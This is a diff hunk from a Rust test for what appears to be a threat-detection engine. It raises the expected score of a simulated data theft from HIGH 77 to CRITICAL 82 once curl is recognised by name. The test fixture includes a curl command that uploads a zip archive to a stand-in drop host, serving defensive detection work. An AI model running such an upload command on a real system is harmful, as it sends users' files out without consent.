@@ -56,8 +56,8 @@ fn a_theft_is_found_though_nothing_tells_how_its_processes_end() {
         row(20, 502, 500, "/usr/bin/curl", "curl -F file=@/tmp/out.zip https://drop.example.org/up"),
         row(2 * DAYS, 503, 500, "/bin/ls", "ls"),
     ];
-    // weight 95 x 50 / 100 = 47, archive 10, near 10, unproven 5, outward 5; no signature tells that curl is a tool.
-    assert_eq!(hunted(&rows, &connection(21)), [("HIGH".to_owned(), 77)]);
+    // weight 95 x 50 / 100 = 47, archive 10, near 10, unproven 5, outward 5; no signature tells that curl is a tool, but its name does: 5.
+    assert_eq!(hunted(&rows, &connection(21)), [("CRITICAL".to_owned(), 82)]);
 }
 
 #[test]
